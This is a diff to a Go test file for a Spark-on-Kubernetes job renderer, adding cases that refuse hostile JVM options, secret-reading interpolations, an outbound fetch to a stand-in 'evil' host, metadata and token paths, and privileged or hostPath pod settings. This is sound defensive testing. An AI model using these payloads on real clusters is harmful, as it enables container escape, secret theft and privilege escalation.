@@ -91,6 +91,7 @@ func TestMapping(t *testing.T) {
 		{`"respawn_timeout_sec": "0"`, "spec.restartPolicy.onFailureRetryInterval", `1`, ""},
 		{`"main_args": ["a b", "3"]`, "spec.arguments.0", `"a b"`, "a b 3"},
 		{`"main_args": "--word '#test it'"`, "spec.arguments.1", `"#test it"`, "--word #test it"},
+		{`"main_args": "--word #test a\\ b \"c \\$d\" ''"`, "spec.arguments", `["--word","#test","a b","c $d",""]`, "--word #test a b c $d"},
 		{`"main_args": "$(POD_IP)"`, "spec.arguments.0", `"$(POD_IP)"`, "$$(POD_IP)"},
 		{`"password": {"secretRef": "db/key"}`, "spec.driver.template.spec.containers.0.env.0.valueFrom.secretKeyRef.name", `"db"`, ""},
 		{`"password": {"secretRef": "db/key"}`, "spec.executor.template.spec.containers.0.env.0.name", `"SECRET_PASSWORD"`, ""},
@@ -242,6 +243,15 @@ func TestRefused(t *testing.T) {
 		"--driver-memory lots":                                                 "must be a size such as 512m",
 		"--executor-cores 0":                                                   "must be a number from 1",
 		"--driver-java-options -Xmx1g":                                         "must not set -Xmx",
+		"--driver-java-options -javaagent:/tmp/x.jar":                          `"-javaagent:/tmp/x.jar" is not an option that a package may give a JVM`,
+		"--driver-java-options '-Da=b com.evil.Main'":                          `"com.evil.Main" is not an option`,
+		`--driver-java-options "-Da=b\\\\ -agentlib:x"`:                        "no quotes and backslashes",
+		"--driver-java-options '-Da=b #\"-javaagent:x\"'":                      "no quotes and backslashes",
+		"--conf spark.driver.defaultJavaOptions=-XX:OnError=id":                "is not an option that a package may give a JVM",
+		"--conf spark.sql.x=${env:AWS_SECRET_ACCESS_KEY}":                      "${env:…} is not allowed",
+		"--jars http://evil/${system:user.home}":                               "${system:…} is not allowed",
+		"--conf spark.executorEnv.JAVA_TOOL_OPTIONS=-javaagent:x":              "JAVA_TOOL_OPTIONS is not for packages to set",
+		"--conf spark.yarn.appMasterEnv.POD_NAME=x":                            "POD_NAME is not for packages to set",
 		"--conf spark.executor.extraJavaOptions=-Dspark.a=b":                   "must not set spark.* by -D",
 		"--conf 'spark.sql.a=b":                                                "the quotes",
 	} {
@@ -278,6 +288,51 @@ var hostile = []string{
 	"hostPath: {path: /}", "}, \"hostNetwork\": true, {", "!!python/object:os.system", "&a [*a,*a]", "\\u0000", "'\"'\"'", "%00", "-v /:/host",
 	"-javaagent:http://evil/x.jar", "file:///var/run/secrets/kubernetes.io/serviceaccount/token", "local:///etc/passwd", "http://169.254.169.254/latest",
 	"privileged: true", "root", strings.Repeat("A", 5000), "\u202eevil",
+}
+
+// hostilePods are settings of pods that would harm others: by the key of Spark's
+// configuration that sets it, or by the name that it has in a pod. The first are
+// refused by name; the second are the job's own properties and go nowhere.
+var hostilePods = []string{
+	"spark.kubernetes.driver.podTemplateFile=http://evil/pod.yaml", "spark.kubernetes.executor.podTemplateFile=http://evil/pod.yaml",
+	"spark.kubernetes.authenticate.driver.serviceAccountName=deployment-manager", "spark.kubernetes.authenticate.serviceAccountName=admin",
+	"spark.kubernetes.authenticate.oauthToken=x", "spark.kubernetes.authenticate.submission.caCertFile=/x", "spark.kubernetes.namespace=kube-system",
+	"spark.kubernetes.driver.volumes.hostPath.x.mount.path=/host", "spark.kubernetes.executor.volumes.persistentVolumeClaim.x.options.claimName=theirs",
+	"spark.kubernetes.driver.secrets.theirs=/secrets", "spark.kubernetes.executor.secretKeyRef.X=theirs:key", "spark.kubernetes.driver.secretKeyRef.X=theirs:key",
+	"spark.kubernetes.container.image=evil", "spark.kubernetes.driver.container.image=evil", "spark.kubernetes.executor.container.image=evil",
+	"spark.kubernetes.container.image.pullSecrets=theirs", "spark.kubernetes.node.selector.x=control-plane", "spark.kubernetes.driver.node.selector.x=y",
+	"spark.kubernetes.driver.label.app=hub", "spark.kubernetes.executor.annotation.x=y", "spark.kubernetes.executor.scheduler.name=x",
+	"spark.kubernetes.driver.pod.excludedFeatureSteps=x", "spark.kubernetes.driver.pod.featureSteps=com.evil.Step", "spark.kubernetes.hadoop.configMapName=theirs",
+	"spark.kubernetes.kerberos.krb5.path=/x", "spark.kubernetes.driver.master=https://evil", "spark.kubernetes.context=admin", "spark.driver.resource.gpu.vendor=x",
+	"hostNetwork", "hostPID", "hostIPC", "hostPath", "privileged", "securityContext", "serviceAccountName", "automountServiceAccountToken", "nodeName",
+	"tolerations", "priorityClassName", "hostAliases", "volumes", "initContainers", "template", "podTemplate", "sysctls", "procMount", "namespace",
+}
+
+// TestHostilePods holds that none of them reaches an object of either engine.
+func TestHostilePods(t *testing.T) {
+	t.Parallel()
+	for _, engine := range []string{Operator, Native} {
+		_, plain, err := render(t, engine, dm.WantStarted, pythonFiles(), `{"main_py": "job.py"}`)
+		if err != nil {
+			t.Fatal(err)
+		}
+		want, _ := json.Marshal(plain)
+		for _, one := range hostilePods {
+			key, _, isConf := strings.Cut(one, "=")
+			properties := `{"main_py": "job.py", "` + one + `": {"privileged": true, "hostPath": {"path": "/"}}}`
+			if isConf {
+				properties = `{"main_py": "job.py", "spark_submit_args": "--conf ` + one + `"}`
+			}
+			_, objects, err := render(t, engine, dm.WantStarted, pythonFiles(), properties)
+			got, _ := json.Marshal(objects)
+			switch {
+			case isConf && (dm.KindOf(err) != dm.Invalid || !strings.Contains(dm.Public(err), key)):
+				t.Errorf("%s: %s: %v, want it refused by name", engine, one, err)
+			case !isConf && (err != nil || string(got) != string(want)):
+				t.Errorf("%s: the property %s changed the objects, or is refused: %v", engine, one, err)
+			}
+		}
+	}
 }
 
 // settings of a pod that must not be there whatever a package says.
